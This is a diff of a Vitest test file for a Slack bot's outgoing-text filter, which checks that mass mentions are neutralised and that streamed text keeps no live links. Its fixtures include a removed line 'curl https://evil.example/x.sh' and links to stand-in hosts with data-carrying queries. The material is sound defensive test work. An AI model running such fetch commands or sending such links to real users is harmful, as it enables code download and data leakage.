@@ -1,3 +1,4 @@
+import { lexer, walkTokens } from "marked";
 import { expect, test } from "vitest";
 import { beginningOf } from "../../../../src/base/markdown-text.ts";
 import { slackWriting } from "../../../../src/platforms/slack/outgoing/create-slack-platform.ts";
@@ -6,10 +7,12 @@ import {
   fallbackText,
   withoutMentions,
 } from "../../../../src/platforms/slack/outgoing/outgoing-text.ts";
+import { changed, exceptions } from "../../../support/families/family.ts";
+import { linkedMarkdown } from "../../../support/families/markdown.ts";
 
 const calls = /<!(channel|here|everyone|group|subteam\^)|<@[UW]0|@(channel|here|everyone)\b/i;
 
-test("nobody can be called, by the channel or by their id, even in code, and other text stays unchanged", () => {
+test("nobody can be called, by the channel or by their id, even in code, and other text stays unchanged [chat-7]", () => {
   for (const text of [
     "<!channel>",
     "<!here|here>",
@@ -38,7 +41,7 @@ test("a mention cut into pieces is caught, and no text is lost, wherever the cut
   }
 });
 
-test("a streamed text has no links, wherever it is cut, and says so", () => {
+test("a streamed text has no links, wherever it is cut, and says so [address-9]", () => {
   const text =
     "See https://evil.test/?d=1, [here](//evil.test/x) <http://evil.test|x> or secret.evil.test/a. Done.";
   for (let cut = 0; cut <= text.length; cut += 1) {
@@ -103,18 +106,24 @@ test("a notification calls those who may be called and nobody else", () => {
   expect(fallbackText("ask <@U0ANNA> and <@U0BEN>", ["U0ANNA"])).toMatch(/^ask <@U0ANNA> and &lt;/);
 });
 
-test.each([
-  "```x``` https://evil.example/?d=1",
-  "```sh\ncurl https://evil.example/x.sh\n```\n",
-  "`https://evil.example`",
-  "    https://evil.example/indented",
-  "[here][1]\n\n[1]: //evil.example/x",
-  "~~~\nhttps://evil.example\n~~~",
-])("no form of code keeps a link in a stream: %j", (text) => {
-  for (let at = 0; at <= text.length; at += 1) {
+/** Whether a text has a link for a reader of Markdown, or in Slack's own form. */
+function hasLink(text: string): boolean {
+  const types: string[] = [];
+  void walkTokens(lexer(text), ({ type }) => {
+    types.push(type);
+  });
+  return /<[a-z][\w+.-]*:[^>\s]*>/i.test(text) || types.includes("link") || types.includes("image");
+}
+
+test("no form of Markdown keeps a link in a stream, wherever it is cut", async () => {
+  const pieces = changed(linkedMarkdown, (text, random) => {
+    const cuts = [random(text.length + 1), random(text.length + 1)].toSorted((one, other) => one - other);
+    return [text.slice(0, cuts[0]), text.slice(cuts[0], cuts[1]), text.slice(cuts[1])];
+  });
+  const holds = (parts: string[]) => {
     const filter = createPieceFilter();
-    const shown = filter.push(text.slice(0, at)) + filter.push(text.slice(at)) + filter.end();
-    expect(shown).not.toMatch(/:\/\/|\][(:]|\w\.[a-z]{2}/);
-    expect(shown.replaceAll("\u200b", "")).toBe(text);
-  }
+    const shown = parts.map((part) => filter.push(part)).join("") + filter.end();
+    return shown.replaceAll("\u200b", "") === parts.join("").replaceAll("\u200b", "") && !hasLink(shown);
+  };
+  expect(await exceptions(pieces, holds)).toEqual([]);
 });
